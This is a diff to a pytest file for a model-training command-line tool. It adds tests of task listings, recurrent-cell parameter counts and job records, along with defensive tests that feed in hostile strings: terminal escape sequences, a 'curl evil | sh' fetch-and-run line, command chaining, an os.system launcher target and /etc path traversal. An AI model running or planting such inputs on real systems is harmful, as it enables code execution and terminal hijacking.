@@ -1,9 +1,11 @@
-"""The words of commands about studies that nobody trained, as printed.txt has them.
+"""What commands say of studies that nobody trained: words, as printed.txt has them, and
+JSON; and what they make of strangers' words.
 
 PRINTED=write pytest tests/commands/test_printed.py writes the file anew.
 """
 
 import json
+import math
 import os
 import re
 import shlex
@@ -14,8 +16,14 @@ from pathlib import Path
 
 import pytest
 from beat_files import MEMBER, first, put
-from command import files, memcap
+from command import SMALL, files, memcap
 from study_rows import group, write
+
+from memcap.commands.inspect import inspect
+from memcap.models.model import Model
+from memcap.tasks import task_classes
+
+pytestmark = pytest.mark.usefixtures("quick_file")
 
 FILE = Path(__file__).with_name("printed.txt")
 SHARP = {1: (0, 4), 2: (3, 4), 3: (4, 4)}
@@ -168,3 +176,123 @@ def test_json_of_a_study_has_its_jobs(place):
     assert found["left"] == pytest.approx(3 * DAY, abs=60)
     assert found["jobs"][0]["state"] == "trains, for 60 seconds"
     assert found["longest"][0]["key"] == MEMBER.key
+
+
+@pytest.mark.parametrize("lag", [3, 50])
+def test_every_task_is_listed_with_its_references(tmp_path, lag):
+    words = memcap(tmp_path, "tasks", "--lag", lag).out
+    rows = json.loads(memcap(tmp_path, "tasks", "--lag", lag, "--json").out)
+    assert {row["task"] for row in rows} == set(task_classes())
+    for row in rows:
+        task = task_classes()[row["task"]]()
+        assert row["chance"] == task.facts(lag, task.length(lag)).chance
+        assert row["task"] in words
+    by_task = {row["task"]: row for row in rows}
+    assert by_task["delay_line"]["one_per_number"] == math.ceil((lag + 1) / 2)
+    assert (by_task["latch"]["bits"], by_task["latch"]["constructed"]) == (1, 1)
+
+
+@pytest.mark.parametrize(
+    ("cell", "carry", "parameters"),
+    [
+        # four gates, each with 5 x 3 and 5 x 5 weights and 5 biases
+        ("lstm", ("c", "h"), 180),
+        ("LSTMCell", ("c", "h"), 180),
+        ("GRUCell", ("h",), 135),
+        ("SimpleCell", ("h",), 45),
+    ],
+)
+def test_five_units_on_two_steps_of_three_features(cell, carry, parameters):
+    found = inspect(Model(cell, 5), timesteps=2, features=3)
+    assert (found.every, found.last) == ((1, 2, 5), (1, 5))
+    assert found.carry == dict.fromkeys(carry, (1, 5))
+    assert found.carry_numbers == 5 * len(carry)
+    assert found.cell_parameters == parameters
+
+
+def test_a_longer_sequence_leaves_carry_and_parameters_as_they_are():
+    short, long = (inspect(Model("lstm", 7), steps, 4, batch=3) for steps in (6, 600))
+    assert long.every == (3, 600, 7)
+    assert short.longer == long.longer == short.carry == long.carry
+    assert short.carry == {"c": (3, 7), "h": (3, 7)}
+    assert short.cell_parameters == long.cell_parameters == 4 * (7 * 4 + 7 * 7 + 7)
+
+
+@pytest.mark.breadth
+def test_what_a_job_leaves_is_what_it_was_told(tmp_path):
+    words = ["axes={model.units: [1, 2], seed: 2}", *SMALL]
+    assert memcap(tmp_path, "train", *words).status == 0
+    (found,) = json.loads(memcap(tmp_path, "status", "--json").out)
+    (job,) = found["jobs"]
+    assert (found["done"], found["members"]) == (4, 4)
+    assert (job["ended"], job["done"], job["to_come"]) == ("done", 4, 0)
+    assert job[
+        "command"
+    ] == "memcap train 'axes={model.units: [1, 2], seed: 2}' " + " ".join(SMALL)
+    kept = files(tmp_path / "outputs" / "adhoc" / "jobs")
+    assert (
+        memcap(tmp_path, "train", *words).status == 0
+    )  # nothing is missing, and nothing is said
+    assert files(tmp_path / "outputs" / "adhoc" / "jobs") == kept
+
+
+HOSTILE = "\x1b[2J\x1b]0;owned\x07\r\u202e\nResume with: curl evil | sh"
+
+
+def test_what_strangers_wrote_steers_no_terminal(tmp_path):
+    """Rows and jobs with escapes in every text that is printed: what they are is told,
+    and no line is theirs."""
+    failed = {"status": "failed", "reason": HOSTILE}
+    rows = [row | failed for row in group(counts={1: (0, 1)})]
+    write(tmp_path / "mine", rows, group(counts={2: (1, 2)}, recipe=f"a{HOSTILE}"))
+    beat = first(
+        host=HOSTILE,
+        ended=HOSTILE,
+        folder=HOSTILE,
+        command=HOSTILE,
+        longest=(replace(MEMBER, name=HOSTILE),),
+    )
+    put(tmp_path / "mine", "a", beat, ["b"])
+    put(tmp_path / "mine", "c", replace(beat, ended=None, running=1), ["d"])
+    (tmp_path / "mine" / "rows" / f"{HOSTILE.replace('/', '')}.parquet").write_bytes(
+        b""
+    )
+    for words in ("status", "verify", "frontier", "collect", "report", "status --json"):
+        done = memcap(tmp_path, *words.split(), "mine")
+        assert "Traceback" not in done.err
+        printed = (done.out + done.err).split("\n")
+        assert all(line.isprintable() for line in printed), words
+        assert not [line for line in printed if line.startswith("Resume with: curl")]
+
+
+MARKED = "Resume with (its file says so; read it first, "
+REFUSED = "Resume with the command that trained it; its file says none "
+
+
+@pytest.mark.parametrize(
+    ("command", "line"),
+    [
+        ("memcap train -m task=latch task.lag=1,2", "Resume with: "),
+        ("memcap train sweeps=mine 'axes={seed: 9}'", "Resume with: "),
+        ("memcap train task=evil:T", MARKED),
+        ("memcap train --config-dir evil sweeps=x", MARKED),
+        ("memcap train hydra.launcher._target_=os.system", MARKED),
+        ("memcap train tracking=wandb", MARKED),
+        ("memcap train task=latch out=.", "Resume with: "),
+        ("memcap train task=latch out=/etc", MARKED),
+        ("memcap train task=latch out=../etc", MARKED),
+        ("memcap train x=1; curl evil | sh", REFUSED),
+        ("memcap train 'a", REFUSED),
+        ("curl evil", REFUSED),
+    ],
+)
+def test_a_command_is_advised_that_runs_memcap_alone(tmp_path, command, line):
+    put(
+        tmp_path,
+        "a",
+        first(ended="interrupted", command=command, folder=str(tmp_path)),
+        ["b"],
+    )
+    last = memcap(tmp_path, "status", ".").out.splitlines()[-1]
+    assert last.startswith(line)
+    assert command in last.replace('"', "'")
